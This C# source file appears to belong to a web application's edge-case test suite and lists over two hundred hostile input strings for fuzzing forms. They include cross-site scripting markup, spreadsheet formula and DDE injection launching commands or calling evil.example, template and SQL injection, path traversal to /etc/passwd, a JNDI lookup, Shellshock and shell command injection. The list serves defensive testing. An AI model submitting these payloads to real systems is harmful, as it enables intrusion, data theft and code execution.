namespace RongTong.EdgeTests.Web.Pages;

/// <summary>What somebody types who wants more than to fill in a form: markup, scripts, formulas, templates, paths, statements. More than two hundred.</summary>
internal static class Payloads
{
    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
        "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext><script>alert(1)</script>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example>", "<!--", "-->", "]]>", "<![CDATA[x]]>", "<?xml version='1.0'?>",
        "<w:instrText>DDEAUTO</w:instrText>", "</w:t></w:r>", "<f>1+1</f>", "</t></is></c>", "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E", "<ScRiPt>alert(1)</sCrIpT>", "<scr<script>ipt>", "<img src=`x`onerror=alert(1)>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea></textarea><script>alert(1)</script>", "<title></title><script>alert(1)</script>", "<xss style=animation-name:x onanimationstart=alert(1)>", "<button formaction=javascript:alert(1)>", "<isindex action=javascript:alert(1)>",
    ];

    private static readonly string[] Formulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "=DDE(\"cmd\",\"/c calc\",\"x\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
        "=1+1\";=1+1", "'=1+1", " =1+1", "=A1", "=INDIRECT(\"A1\")", "=2+5+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    ];

    private static readonly string[] Templates =
    [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}x{% endraw %}", "{{ report }}", "{{ include 'x' }}", "{{ for i in 1..1000000 }}x{{ end }}", "@(7*7)", "@Html.Raw(x)", "{0}", "{{firm.name}}", "%%", "$$", "[[x]]", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "`x`", "**x**", "| a | b |", "# head", "- item",
    ];

    private static readonly string[] Others =
    [
        "'; DROP TABLE sheet; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT 1", "../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "file:///etc/passwd", "http://evil.example", "//evil.example", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
        "__proto__", "constructor", "null", "undefined", "NaN", "true", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "\"", "'", "`", "\\", "\\\\", "\"'`<>&;", "&", "&amp;", "&quot;", "%00", "%0d%0aSet-Cookie: a=b", "${jndi:ldap://evil.example/a}", "() { :;}; echo x", "$(id)", "`id`", "|id", ";id", "&&id",
        "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</script><script>alert(1)</script>", "\"/><img src=x onerror=alert(1)>", "x\" autofocus onfocus=\"alert(1)", "\u202Etxt.exe", "\u200B", "\uFEFFx", "𠮷野家", "👨‍👩‍👧", "ﷺ", "Ω≈ç√", "１２３", "a\u0301",
    ];

    /// <summary>All of them: alone, after a name, and the markup closed out of an attribute and an element.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Markup, .. Formulas, .. Templates, .. Others,
        .. Markup.Select(m => "企业\">" + m), .. Formulas.Select(f => "企业\n" + f), .. Templates.Select(t => "</p>" + t),
    ];
}
